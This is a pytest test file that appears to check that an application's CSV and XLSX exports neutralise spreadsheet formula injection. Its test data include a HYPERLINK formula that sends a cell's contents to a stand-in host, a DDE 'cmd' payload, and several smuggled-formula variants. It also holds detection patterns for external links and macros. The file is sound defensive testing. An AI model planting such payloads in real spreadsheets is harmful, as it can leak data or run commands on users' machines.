"""No file that we hand out makes a spreadsheet run anything: every function that writes one, with hostile texts."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest

from api.console.pages.decision import refused_list
from models.calendar.lists import write_list
from models.laporan.queries import Report
from models.laporan.rules import figures, rates
from models.laporan.workbook import write_csv, write_xlsx
from models.staff import workbook as accounts
from models.usulan.workbook import FamilyRow, MemberRow, RowError, write_rows, write_template
from models.usulan.workbook_columns import columns
from models.usulan.workbook_identity import FAMILY_SHEET, MEMBER_SHEET
from models.usulan.workbook_values import FORMULA_STARTS, guarded, text_of
from tests.unit.house import source

HOSTILE = [f'{start}HYPERLINK("http://x.example/"&A1,"klik")' for start in sorted(FORMULA_STARTS)]
HOSTILE += ["=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '","=1+1', "a\r\n=1+1", "a;=1+1", "\t=1+1", " =1+1"]


def _family(text: str) -> FamilyRow:
    """Return a family whose every cell is hostile: texts as values, everything else as it was found in the file."""
    family, member = FamilyRow(), MemberRow()
    for row, sheet in ((family, FAMILY_SHEET), (member, MEMBER_SHEET)):
        for column in columns(sheet):
            if column.kind == "text" and not column.variable:
                setattr(row, column.name, text)
            else:
                row.raw[column.name] = text
    family.members = [member]
    family.errors.append(RowError("keluarga", family.row, "alamat", text, "X", "error", text, text, text, text))
    return family


def _list(text: str, kind: Any, messages: Any = None) -> bytes:
    target = io.BytesIO()
    write_rows(target, [_family(text)], kind=kind, messages=messages)
    return target.getvalue()


def _template(kind: Any) -> bytes:
    target = io.BytesIO()
    write_template(target, kind=kind)
    return target.getvalue()


def _accounts(text: str) -> bytes:
    mistake = accounts.Mistake("nama", text, text, text, text)
    row = accounts.Row(2, {column.name: text for column in accounts.COLUMNS}, mistakes=[mistake])
    return accounts.write([row], language="id")


def _holidays(text: str, *, xlsx: bool) -> bytes:
    row = {"day": date(2027, 1, 1), "name": text, "kind": text, "region": text, "decree": text}
    return write_list([row], xlsx=xlsx)


def _report(text: str) -> Report:
    told = figures(())
    part = {"region": 3204, "name": text, "figures": told}
    now = datetime(2026, 11, 20, tzinfo=UTC)
    return Report(32, text, ((32, text),), 2026, None, told, rates(told), [part], {}, {}, {}, now, kept=False)


EXPORTS: dict[str, Callable[[str], bytes]] = {
    "village list, xlsx": lambda text: _list(text, "xlsx"),
    "village list to mend, xlsx": lambda text: _list(text, "xlsx", "id"),
    "village list, csv": lambda text: _list(text, "csv"),
    "village list to mend, csv": lambda text: _list(text, "csv", "en"),
    "its template, xlsx": lambda _: _template("xlsx"),
    "its template, csv": lambda _: _template("csv"),
    "accounts": _accounts,
    "accounts' template": lambda _: accounts.write((), language="id"),
    "holidays, csv": lambda text: _holidays(text, xlsx=False),
    "holidays, xlsx": lambda text: _holidays(text, xlsx=True),
    "report, xlsx": lambda text: write_xlsx(_report(text), "id"),
    "report, csv": lambda text: write_csv(_report(text)),
    "refused cases": lambda text: refused_list([(1, text, text, text)]),
}
WRITERS = {
    "api/console/pages/decision.py": ("refused cases",),
    "models/calendar/lists.py": ("holidays, csv", "holidays, xlsx"),
    "models/laporan/workbook.py": ("report, xlsx", "report, csv"),
    "models/staff/workbook.py": ("accounts",),
    "models/usulan/workbook_write.py": ("village list, xlsx", "village list, csv"),
}
"""Modules that write spreadsheets, and where they are tried above."""


def _active(content: bytes) -> Iterator[str]:
    """Yield what a spreadsheet program would run or follow."""
    if not content.startswith(b"PK"):
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            yield from (cell for cell in row if cell[:1] in FORMULA_STARTS)
        return
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for cells in sheet.iter_rows():
            yield from (str(cell.value) for cell in cells if cell.data_type == "f")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            text = parts.read(name).decode()
            if name.startswith("xl/worksheets/"):
                yield from re.findall(r"<f[ >].*?</f>|<hyperlink .*?>", text)
            if name.endswith((".rels", ".bin")):
                yield from re.findall(r'TargetMode="External"|ddeLink|externalLink|vbaProject', text)


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
@pytest.mark.parametrize("name", EXPORTS)
def test_asvs_1_2_10_nothing_in_an_export_is_a_formula(name: str, text: str) -> None:
    assert list(_active(EXPORTS[name](text))) == []


def test_what_is_looked_for_is_found() -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet["A1"], sheet["A2"] = "=1+1", "teks"
    sheet["A2"].hyperlink = "http://x.example/"
    target = io.BytesIO()
    book.save(target)
    assert len(list(_active(target.getvalue()))) >= 3
    assert list(_active(b"a,=1\r\n")) == ["=1"]


@pytest.mark.parametrize("text", [*HOSTILE, "'apostrof", "biasa"], ids=repr)
def test_a_guard_is_taken_off_again(text: str) -> None:
    if text[:1] in FORMULA_STARTS:
        assert guarded(text) == f"'{text}"
    assert text_of(guarded(text)) == text_of(text)


def test_asvs_1_2_10_every_module_that_writes_spreadsheets_is_tried() -> None:
    writing = {
        path
        for path in source.python(*source.PRODUCT)
        if any(
            name.split(".")[0] in {"xlsxwriter", "openpyxl", "pandas"} for _, name in source.imported(source.tree(path))
        )
        or re.search(r"csv\.(writer|DictWriter)", source.text(path))
    }
    assert writing == set(WRITERS), "a new export goes into EXPORTS, its module into WRITERS"
    assert {name for names in WRITERS.values() for name in names} <= set(EXPORTS)
